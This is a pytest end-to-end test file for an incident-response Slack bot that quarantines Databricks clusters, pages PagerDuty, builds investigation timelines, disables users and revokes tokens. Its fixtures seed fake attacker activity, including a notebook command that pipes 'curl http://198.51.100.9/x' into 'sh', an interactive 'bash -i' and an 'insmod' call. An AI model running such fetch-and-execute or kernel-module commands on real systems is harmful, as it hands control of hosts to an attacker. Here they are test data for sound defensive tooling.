"""The responder's playbook (#12), end to end: the real bot server, the real databricks-sdk against
the Databricks emulator, the PagerDuty stand-in, and clicks signed exactly as Slack signs them."""
from __future__ import annotations

import asyncio
import json
import time
from typing import Any

import pytest

from emulators.pagerduty import TEST_ROUTING_KEY, PagerDutyEmulator
from emulators.slack import blocks_to_text
from emulators.slack_signing import block_actions_body
from tests.e2e.conftest import CHANNEL, OUTSIDER, RESPONDER, Bot, capsule8

CLUSTER = "0101-000000-ds0001"  # data-science-shared; i-0driver000000001 is its driver
QUARANTINE, UNDO = "esm.quarantine_cluster", "esm.undo_quarantine"
PAGE, ACK, TERMINATE = "esm.page_oncall", "esm.acknowledge", "esm.terminate_cluster"
ACL_PATH = f"/api/2.0/permissions/clusters/{CLUSTER}"
BOT_USER = "esm-bot@example.com"  # the emulator's SCIM Me


@pytest.fixture
async def pager():
    async with PagerDutyEmulator() as emulator:
        yield emulator


@pytest.fixture
async def make_bot(tmp_path, slack, dbx, pager):
    """A bot with the playbook configured (quarantine principals, PagerDuty stand-in) plus `env`."""
    dbx.groups.add("security-team")
    dbx.user_groups.append("admins")  # the bot's principal is a workspace admin (SCIM, token management)
    started: list[Bot] = []

    async def make(**env: str) -> Bot:
        folder = tmp_path / f"bot{len(started)}"
        folder.mkdir()
        settings = {"ESM_QUARANTINE_PRINCIPALS": "group:security-team", "ESM_PAGERDUTY_ROUTING_KEY": TEST_ROUTING_KEY,
                    "ESM_PAGERDUTY_URL": pager.url, **env}
        instance = await Bot(folder, slack, dbx, **settings).start()
        started.append(instance)
        return instance

    yield make
    for instance in started:
        await instance.stop()


async def posted_finding(bot: Bot, detection: str = "Kernel Module Loaded") -> dict:
    bot.add(capsule8("c8-1", detection, "i-0driver000000001", 5))
    await bot.webhook()
    await bot.settle()
    [finding] = [f for f in bot.findings() if detection in bot.text_of(f)]
    return finding


def key_of(finding: dict) -> str:
    return finding["metadata"]["event_payload"]["key"]


def button(bot: Bot, message: dict, action_id: str) -> dict | None:
    current = bot.slack.message(CHANNEL, message["ts"]) or message
    return next((e for b in current.get("blocks") or [] if b["type"] == "actions" for e in b["elements"]
                 if e["action_id"] == action_id), None)


async def click(bot: Bot, message: dict, action_id: str, user_id: str = RESPONDER) -> str:
    """Click a button on a message (a finding or a thread note) as Slack would; its response_url."""
    found, shown = button(bot, message, action_id), bot.slack.message(CHANNEL, message["ts"])
    if found is None:  # a stale copy of the message (another client still shows the button)
        found = next((e for b in message.get("blocks") or [] if b["type"] == "actions" for e in b["elements"]
                      if e["action_id"] == action_id), None)
        shown = message
    assert found is not None, f"no {action_id} button on that message"
    response_url = bot.slack.new_response_url(CHANNEL, message["ts"])
    body = block_actions_body(action_id=action_id, value=found["value"], user_id=user_id, channel_id=CHANNEL,
                              message=shown, response_url=response_url)
    status, answer = await bot.slack_request(body)
    assert status == 200, answer
    return response_url


async def answer_to(bot: Bot, response_url: str) -> str:
    [answer] = await bot.answers(response_url)
    return answer["text"]


def thread_text(bot: Bot, finding: dict) -> str:
    return "\n".join(blocks_to_text(r.get("blocks") or []) or r.get("text", "") for r in bot.replies(finding))


def note_with(bot: Bot, finding: dict, action_id: str) -> dict:
    return next(r for r in bot.replies(finding) if button(bot, r, action_id) is not None)


def acl_changes(bot: Bot) -> list:
    return [c for c in bot.dbx.calls if c.path == ACL_PATH and c.method in ("PUT", "PATCH")]


def direct(acl: list[dict]) -> set[tuple[str, str]]:
    return {(next(e[k] for k in ("user_name", "group_name", "service_principal_name") if e.get(k)),
             p["permission_level"]) for e in acl for p in e["all_permissions"] if not p["inherited"]}


def canonical(acl: list[dict]) -> list[str]:
    """An ACL as a sorted list: the API promises no order of its entries."""
    return sorted(json.dumps(entry, sort_keys=True) for entry in acl)


async def records(bot: Bot, finding: dict) -> list[dict[str, Any]]:
    assert bot.runtime is not None
    return await bot.runtime.store.actions_for(key_of(finding))


async def eventually(condition, timeout: float = 10.0) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if condition():
            return
        await asyncio.sleep(0.05)
    raise AssertionError("condition not met in time")


# ---- Quarantine cluster ------------------------------------------------------------------------


async def test_a_responder_quarantines_the_cluster_and_only_the_quarantine_principals_keep_access(make_bot):
    bot = await make_bot()
    bot.dbx.grant(CLUSTER, "CAN_ATTACH_TO", group="users")
    finding = await posted_finding(bot)
    confirm = button(bot, finding, QUARANTINE)["confirm"]["text"]["text"]
    assert f"data-science-shared ({CLUSTER})" in confirm and "keeps running" in confirm

    answer = await answer_to(bot, await click(bot, finding, QUARANTINE))
    await bot.settle()

    assert direct(bot.dbx.acl(CLUSTER)) == {("security-team", "CAN_MANAGE"), (BOT_USER, "CAN_MANAGE")}
    assert bot.dbx.clusters[CLUSTER]["state"] == "RUNNING", "the evidence stays: the cluster keeps running"
    assert answer.startswith(f"<@{RESPONDER}> quarantined cluster data-science-shared ({CLUSTER})")
    assert "Inherited grants cannot be removed" in answer and "admins" in answer
    assert f"Quarantined* by @{RESPONDER}" in bot.text_of(finding)
    note = note_with(bot, finding, UNDO)
    assert "quarantined cluster" in blocks_to_text(note["blocks"])
    [record] = [r for r in await records(bot, finding) if r["action"] == QUARANTINE]
    assert record["outcome"] == "done" and record["user_id"] == RESPONDER
    assert {(g["name"], g["level"]) for g in record["before"]} == {("dana@example.com", "CAN_MANAGE"),
                                                                    ("users", "CAN_ATTACH_TO")}
    assert {(g["name"], g["level"]) for g in record["after"]} == direct(bot.dbx.acl(CLUSTER))


async def test_a_non_responder_is_refused_and_nothing_is_called(make_bot):
    bot = await make_bot()
    finding = await posted_finding(bot)
    before = bot.dbx.acl(CLUSTER)

    answer = await answer_to(bot, await click(bot, finding, QUARANTINE, user_id=OUTSIDER))

    assert answer.startswith("Refused:")
    assert acl_changes(bot) == [] and bot.dbx.calls_to(ACL_PATH) == []
    assert canonical(bot.dbx.acl(CLUSTER)) == canonical(before)


async def test_dry_run_reports_the_plan_and_changes_nothing(make_bot):
    bot = await make_bot(ESM_DRY_RUN="true")
    finding = await posted_finding(bot)

    answer = await answer_to(bot, await click(bot, finding, QUARANTINE))
    page = await answer_to(bot, await click(bot, finding, PAGE))

    assert answer.startswith(f"Dry run: would replace the ACL of cluster data-science-shared ({CLUSTER})")
    assert "with group security-team CAN_MANAGE" in answer and "Nothing was changed" in answer
    assert acl_changes(bot) == []
    assert page.startswith("Dry run: would trigger a PagerDuty incident")


async def test_a_double_click_quarantines_once(make_bot):
    bot = await make_bot()
    finding = await posted_finding(bot)
    bot.dbx.delay(ACL_PATH, 0.3, times=2)  # both clicks are in flight together

    first, second = await asyncio.gather(*(click(bot, finding, QUARANTINE) for _ in range(2)))
    answers = sorted([await answer_to(bot, first), await answer_to(bot, second)])

    assert len([c for c in acl_changes(bot) if c.method == "PUT"]) == 1
    assert any("already running or done" in a or "already quarantined" in a for a in answers)


async def test_undo_restores_the_acl_exactly_and_says_what_changed_meanwhile(make_bot):
    bot = await make_bot()
    bot.dbx.add_user("carol@example.com")
    bot.dbx.add_user("mallory@example.com")
    bot.dbx.grant(CLUSTER, "CAN_ATTACH_TO", user="carol@example.com")
    bot.dbx.grant(CLUSTER, "CAN_RESTART", group="users")
    finding = await posted_finding(bot)
    before = bot.dbx.acl(CLUSTER)
    await answer_to(bot, await click(bot, finding, QUARANTINE))
    await bot.settle()
    bot.dbx.grant(CLUSTER, "CAN_ATTACH_TO", user="mallory@example.com")  # by hand, while quarantined
    note = note_with(bot, finding, UNDO)

    refused = await answer_to(bot, await click(bot, note, UNDO, user_id=OUTSIDER))
    answer = await answer_to(bot, await click(bot, note, UNDO))
    await bot.settle()

    assert refused.startswith("Refused:")
    assert canonical(bot.dbx.acl(CLUSTER)) == canonical(before), "the ACL read back equals the ACL before"
    assert "restored" in answer and "added user mallory@example.com CAN_ATTACH_TO" in answer
    assert "Quarantined*" not in bot.text_of(finding)
    undone_note = bot.slack.message(CHANNEL, note["ts"])
    assert button(bot, note, UNDO) is None, "the undo is offered only while the quarantine applies"
    assert "Undone by" in blocks_to_text(undone_note["blocks"]) and "quarantined cluster" in blocks_to_text(
        undone_note["blocks"])
    again = await answer_to(bot, await click(bot, note, UNDO))  # a stale client's copy of the button
    assert "nothing to undo" in again
    assert len([c for c in acl_changes(bot) if c.method == "PUT"]) == 2
    # undone, the cluster can be quarantined again
    await answer_to(bot, await click(bot, finding, QUARANTINE))
    assert direct(bot.dbx.acl(CLUSTER)) == {("security-team", "CAN_MANAGE"), (BOT_USER, "CAN_MANAGE")}


async def test_without_permission_to_manage_the_acl_the_preflight_says_so(make_bot):
    bot = await make_bot()
    bot.dbx.permissions_forbidden = True
    finding = await posted_finding(bot)

    answer = await answer_to(bot, await click(bot, finding, QUARANTINE))

    assert "cannot read or manage its permissions" in answer and "PERMISSION_DENIED" in answer
    assert acl_changes(bot) == []


# ---- Page on-call ------------------------------------------------------------------------------


async def test_page_acknowledge_and_close_drive_one_incident_by_the_finding_key(make_bot, pager):
    bot = await make_bot()
    finding = await posted_finding(bot)

    paged = await answer_to(bot, await click(bot, finding, PAGE))
    await answer_to(bot, await click(bot, finding, ACK))
    await bot.settle()
    acknowledged = pager.incidents[key_of(finding)].status
    await answer_to(bot, await click(bot, finding, TERMINATE))
    await bot.settle()

    assert "paged on-call" in paged
    assert [e["event_action"] for e in pager.events] == ["trigger", "acknowledge", "resolve"]
    assert {e["dedup_key"] for e in pager.events} == {key_of(finding)}
    trigger = pager.events[0]
    assert trigger["payload"]["severity"] == "error" and "Kernel Module Loaded" in trigger["payload"]["summary"]
    assert trigger["links"] and "/archives/" in trigger["links"][0]["href"]
    assert acknowledged == "acknowledged" and pager.incidents[key_of(finding)].status == "resolved"
    assert "PagerDuty incident acknowledged" in thread_text(bot, finding)
    assert "PagerDuty incident resolved" in thread_text(bot, finding)


async def test_a_second_page_is_refused_and_pagerduty_is_not_called_again(make_bot, pager):
    bot = await make_bot()
    finding = await posted_finding(bot)
    await answer_to(bot, await click(bot, finding, PAGE))
    again = await answer_to(bot, await click(bot, finding, PAGE))
    assert "already" in again and len(pager.events) == 1


async def test_findings_at_or_above_the_page_severity_page_by_themselves(make_bot, pager):
    bot = await make_bot(ESM_PAGE_SEVERITY="high")
    finding = await posted_finding(bot)

    await eventually(lambda: len(pager.events) == 1)
    await bot.settle()

    assert pager.events[0]["dedup_key"] == key_of(finding)
    await eventually(lambda: "Paged on-call* by" in bot.text_of(finding))


async def test_findings_below_the_page_severity_do_not_page(make_bot, pager):
    bot = await make_bot(ESM_PAGE_SEVERITY="critical")
    await posted_finding(bot)
    await bot.settle()
    assert pager.events == [] and pager.rejected == []


async def test_pagerduty_refusing_the_event_is_reported_and_can_be_retried(make_bot, pager):
    bot = await make_bot()
    pager.routing_key = "X" * 32  # the bot's key is not this service's
    finding = await posted_finding(bot)

    answer = await answer_to(bot, await click(bot, finding, PAGE))
    pager.routing_key = TEST_ROUTING_KEY
    retried = await answer_to(bot, await click(bot, finding, PAGE))

    assert "Could not page on-call" in answer and "Invalid routing key" in answer
    assert TEST_ROUTING_KEY not in answer
    assert "paged on-call" in retried and len(pager.events) == 1


async def test_without_a_routing_key_the_page_button_is_not_offered(tmp_path, slack, dbx):
    bot = await Bot(tmp_path, slack, dbx).start()
    try:
        finding = await posted_finding(bot)
        assert button(bot, finding, PAGE) is None and button(bot, finding, QUARANTINE) is None
    finally:
        await bot.stop()


# ---- Investigate -------------------------------------------------------------------------------

INVESTIGATE = "esm.investigate"
SUSPECT = "alice@example.com"


def seed_investigation(bot: Bot, capsule8_events: int = 3, cluster_events: int = 4) -> None:
    from bot.cli.audit_rows import account_row, minutes_ago
    from tests.e2e.conftest import notebook_command

    for i in range(capsule8_events):
        bot.add(capsule8(f"c8-extra-{i}", "Suspicious Interactive Shell", "i-0driver000000001", 30 + i * 0.1,
                         commandLine=f"bash -i *bold* <!channel> {i}"))
    bot.add(notebook_command("nb-1", CLUSTER, 20, SUSPECT, "%sh curl http://198.51.100.9/x | sh <@U0BOSS>"))
    bot.add(account_row("acc-1", "tokenLogin", SUSPECT, minutes_ago(90)))
    bot.add(account_row("acc-2", "generateDbToken", SUSPECT, minutes_ago(60 * 24)))
    now_ms = int(time.time() * 1000)
    for i in range(cluster_events):
        bot.dbx.add_event(CLUSTER, "INIT_SCRIPTS_FINISHED", {"cluster_size": {"num_workers": i}},
                          timestamp_ms=now_ms - (40 - i * 0.1) * 60_000)
    bot.dbx.add_run(77, CLUSTER, run_name="exfil-job", creator=SUSPECT, start_ms=now_ms - 15 * 60_000)


async def test_investigate_posts_one_timeline_reply_with_csv_and_chart(make_bot):
    bot = await make_bot()
    seed_investigation(bot, cluster_events=60)  # more than one page (50) of cluster events
    finding = await posted_finding(bot)

    answer = await answer_to(bot, await click(bot, finding, INVESTIGATE, user_id=OUTSIDER))  # anyone may read
    await bot.settle()

    assert answer.startswith("Posted the timeline in the thread:") and "2 attached file(s)" in answer
    [reply] = [r for r in bot.replies(finding) if "Investigation" in r.get("text", "")]
    shown = json.dumps(reply["blocks"])
    assert "Suspicious Interactive Shell" in shown and "exfil-job" in shown and "INIT_SCRIPTS_FINISHED" in shown
    assert "tokenLogin" in shown and "created a personal access token" in shown
    assert f"User looked at: {SUSPECT}, ran the last notebook command before the event" in shown
    assert "<!channel>" not in shown and "&lt;!channel&gt;" in shown, "outside values are escaped"
    assert "<@U0BOSS>" not in shown
    files = {f["name"].rsplit(".", 1)[1]: f for f in bot.slack.files(CHANNEL)}
    assert set(files) == {"csv", "png"} and all(f["thread_ts"] == finding["ts"] for f in files.values())
    assert files["png"]["content"].startswith(b"\x89PNG")
    csv_text = files["csv"]["content"].decode()
    assert csv_text.startswith("time,source,who,what,detail")
    assert csv_text.count("INIT_SCRIPTS_FINISHED") == 60, "every page of cluster events was read"
    assert len(bot.dbx.calls_to("/api/2.1/clusters/events")) >= 2
    assert "'%sh" not in csv_text and "http://198.51.100.9" in csv_text


async def test_a_long_timeline_stays_within_slacks_limits_and_the_csv_has_all_of_it(make_bot):
    bot = await make_bot()
    seed_investigation(bot, capsule8_events=400, cluster_events=0)
    finding = await posted_finding(bot)

    answer = await answer_to(bot, await click(bot, finding, INVESTIGATE))
    await bot.settle()

    assert answer.startswith("Posted the timeline"), answer
    [reply] = [r for r in bot.replies(finding) if "Investigation" in r.get("text", "")]
    assert len(reply["blocks"]) <= 50
    assert all(len(b.get("text", {}).get("text", "")) <= 3000 for b in reply["blocks"])
    assert "more entries in the attached CSV" in json.dumps(reply["blocks"])
    [csv_file] = [f for f in bot.slack.files(CHANNEL) if f["name"].endswith(".csv")]
    assert csv_file["content"].decode().count("Suspicious Interactive Shell") == 400


async def test_with_readers_set_investigate_is_refused_to_others_before_any_query(make_bot):
    bot = await make_bot(ESM_READERS="U0READER")
    finding = await posted_finding(bot)
    calls = len(bot.dbx.calls)

    answer = await answer_to(bot, await click(bot, finding, INVESTIGATE, user_id=OUTSIDER))

    assert answer.startswith("Refused:")
    assert bot.slack.files() == [] and len(bot.dbx.calls) == calls


# ---- Disable user / Re-enable user ---------------------------------------------------------------

DISABLE, ENABLE = "esm.disable_user", "esm.enable_user"
REVOKE, REVOKE_NOW = "esm.revoke_tokens", "esm.revoke_tokens_confirmed"
SCIM_USERS = "/api/2.0/preview/scim/v2/Users"


async def finding_with_suspect(bot: Bot, user: str = SUSPECT) -> dict:
    from tests.e2e.conftest import notebook_command

    bot.dbx.add_user(user)
    bot.add(notebook_command("nb-s", CLUSTER, 10, user, "import os; os.system('insmod x.ko')"))
    return await posted_finding(bot)


def scim_patches(bot: Bot) -> list:
    return [c for c in bot.dbx.calls if c.method == "PATCH" and c.path.startswith(SCIM_USERS)]


async def test_disable_names_who_and_why_deactivates_and_re_enable_undoes_it(make_bot):
    bot = await make_bot()
    finding = await finding_with_suspect(bot)
    confirm = button(bot, finding, DISABLE)["confirm"]["text"]["text"]
    assert SUSPECT in confirm and "ran the last notebook command before the event" in confirm

    answer = await answer_to(bot, await click(bot, finding, DISABLE))
    await bot.settle()

    assert answer.startswith(f"<@{RESPONDER}> disabled user {SUSPECT}")
    assert bot.dbx.user_by_name(SUSPECT)["active"] is False
    [patch] = scim_patches(bot)
    assert patch.data["Operations"] == [{"op": "replace", "value": {"active": False}}], "the value survives the SDK"
    assert f"User {SUSPECT} disabled* by @{RESPONDER}" in bot.text_of(finding)
    note = note_with(bot, finding, ENABLE)

    undone = await answer_to(bot, await click(bot, note, ENABLE))
    await bot.settle()

    assert f"re-enabled user {SUSPECT}" in undone
    assert bot.dbx.user_by_name(SUSPECT)["active"] is True
    assert "disabled*" not in bot.text_of(finding)
    assert "nothing to undo" in await answer_to(bot, await click(bot, note, ENABLE))


@pytest.mark.parametrize("protected, user", [
    ("", BOT_USER),  # the bot's own principal, whatever the setting
    (f"user:{SUSPECT}", SUSPECT),
    ("group:break-glass", SUSPECT),  # a member of a protected group
], ids=["the-bot-itself", "a-listed-user", "a-protected-group-member"])
async def test_disable_refuses_the_bots_own_principal_and_protected_principals(make_bot, protected, user):
    bot = await make_bot(ESM_PROTECTED_PRINCIPALS=protected)
    bot.dbx.add_user(SUSPECT, groups=("break-glass",))
    finding = await finding_with_suspect(bot, user)

    answer = await answer_to(bot, await click(bot, finding, DISABLE))

    assert answer.startswith(f"Refused: esm-bot never acts on {user}"), answer
    assert scim_patches(bot) == [] and bot.dbx.user_by_name(user)["active"] is True


async def test_disable_by_a_non_responder_is_refused_and_dry_run_patches_nothing(make_bot):
    bot = await make_bot(ESM_DRY_RUN="true")
    finding = await finding_with_suspect(bot)

    refused = await answer_to(bot, await click(bot, finding, DISABLE, user_id=OUTSIDER))
    planned = await answer_to(bot, await click(bot, finding, DISABLE))

    assert refused.startswith("Refused:")
    assert planned.startswith(f"Dry run: would deactivate user {SUSPECT}") and "Nothing was changed" in planned
    assert scim_patches(bot) == [] and bot.dbx.user_by_name(SUSPECT)["active"] is True


async def test_a_double_click_disables_once(make_bot):
    bot = await make_bot()
    finding = await finding_with_suspect(bot)
    bot.dbx.delay(SCIM_USERS, 0.3, times=2)
    first, second = await asyncio.gather(*(click(bot, finding, DISABLE) for _ in range(2)))
    await answer_to(bot, first), await answer_to(bot, second)
    assert len(scim_patches(bot)) == 1


# ---- Revoke tokens -----------------------------------------------------------------------------------


async def click_answer_button(bot: Bot, answer: dict, action_id: str, finding: dict, user_id: str = RESPONDER) -> str:
    """Click a button in a private answer (an ephemeral message), as Slack sends it."""
    found = next(e for b in answer["blocks"] if b["type"] == "actions" for e in b["elements"]
                 if e["action_id"] == action_id)
    response_url = bot.slack.new_response_url(CHANNEL)
    body = block_actions_body(action_id=action_id, value=found["value"], user_id=user_id, channel_id=CHANNEL,
                              message={"ts": finding["ts"], "blocks": answer["blocks"], "text": answer["text"]},
                              response_url=response_url)
    status, ack = await bot.slack_request(body)
    assert status == 200, ack
    return response_url


async def test_revoke_lists_the_tokens_then_deletes_them_and_says_it_is_not_reversible(make_bot):
    bot = await make_bot()
    finding = await finding_with_suspect(bot)
    day = 86_400_000
    bot.dbx.add_token(SUSPECT, comment="ci <!here> pipeline", last_used_ms=int(time.time() * 1000) - day)
    bot.dbx.add_token(SUSPECT, comment="laptop")
    bot.dbx.add_token("someone-else@example.com", comment="keep me")

    listed_url = await click(bot, finding, REVOKE)
    [listed] = await bot.answers(listed_url)
    shown = json.dumps(listed["blocks"])
    assert "2 personal access token(s)" in shown and "laptop" in shown and "&lt;!here&gt;" in shown
    assert "last used 20" in shown and "last used never" in shown
    confirm = next(e for b in listed["blocks"] if b["type"] == "actions" for e in b["elements"])["confirm"]
    assert "NOT reversible" in confirm["text"]["text"]
    assert [t["comment"] for t in bot.dbx.tokens.values()] == ["ci <!here> pipeline", "laptop", "keep me"]

    answer = await answer_to(bot, await click_answer_button(bot, listed, REVOKE_NOW, finding))
    await bot.settle()

    assert f"revoked 2 personal access token(s) of {SUSPECT}" in answer and "Not reversible" in answer
    assert [t["comment"] for t in bot.dbx.tokens.values()] == ["keep me"]
    again = await answer_to(bot, await click_answer_button(bot, listed, REVOKE_NOW, finding))
    assert "already running or done" in again or "no personal access tokens left" in again


async def test_revoke_refuses_a_protected_user_and_outsiders_before_listing(make_bot):
    bot = await make_bot(ESM_PROTECTED_PRINCIPALS=SUSPECT)
    finding = await finding_with_suspect(bot)
    bot.dbx.add_token(SUSPECT, comment="laptop")

    protected = await answer_to(bot, await click(bot, finding, REVOKE))
    outsider = await answer_to(bot, await click(bot, finding, REVOKE, user_id=OUTSIDER))

    assert protected.startswith(f"Refused: esm-bot never acts on {SUSPECT}") and outsider.startswith("Refused:")
    assert bot.dbx.calls_to("/api/2.0/token-management/tokens") == []


# ---- Terminate offers Quarantine instead on a shared cluster -----------------------------------------


async def shared_finding(bot: Bot) -> dict:
    from tests.e2e.conftest import notebook_command

    bot.add(notebook_command("nb-a", CLUSTER, 30, SUSPECT, "df.count()"),
            notebook_command("nb-b", CLUSTER, 20, "bob@example.com", "spark.sql('select 1')"))
    return await posted_finding(bot)


async def test_terminate_on_a_shared_cluster_offers_quarantine_instead(make_bot):
    bot = await make_bot()
    finding = await shared_finding(bot)

    offered_url = await click(bot, finding, TERMINATE)
    [offer] = await bot.answers(offered_url)

    assert "is shared: 2 users attached in the last hour" in offer["text"] and SUSPECT in offer["text"]
    assert bot.dbx.calls_to("/api/2.1/clusters/delete") == [] and bot.dbx.clusters[CLUSTER]["state"] == "RUNNING"
    choices = [e["action_id"] for b in offer["blocks"] if b["type"] == "actions" for e in b["elements"]]
    assert choices == [QUARANTINE, "esm.terminate_anyway"]

    quarantined = await answer_to(bot, await click_answer_button(bot, offer, QUARANTINE, finding))
    assert "quarantined cluster" in quarantined and bot.dbx.clusters[CLUSTER]["state"] == "RUNNING"


async def test_terminate_anyway_terminates_once(make_bot):
    bot = await make_bot()
    finding = await shared_finding(bot)
    [offer] = await bot.answers(await click(bot, finding, TERMINATE))

    first = await answer_to(bot, await click_answer_button(bot, offer, "esm.terminate_anyway", finding))
    second = await answer_to(bot, await click_answer_button(bot, offer, "esm.terminate_anyway", finding))

    assert "terminated cluster" in first and "already" in second
    assert len(bot.dbx.calls_to("/api/2.1/clusters/delete")) == 1


async def test_terminate_on_a_cluster_one_user_attached_to_terminates_at_once(make_bot):
    bot = await make_bot()
    finding = await finding_with_suspect(bot)
    answer = await answer_to(bot, await click(bot, finding, TERMINATE))
    assert "terminated cluster" in answer and len(bot.dbx.calls_to("/api/2.1/clusters/delete")) == 1
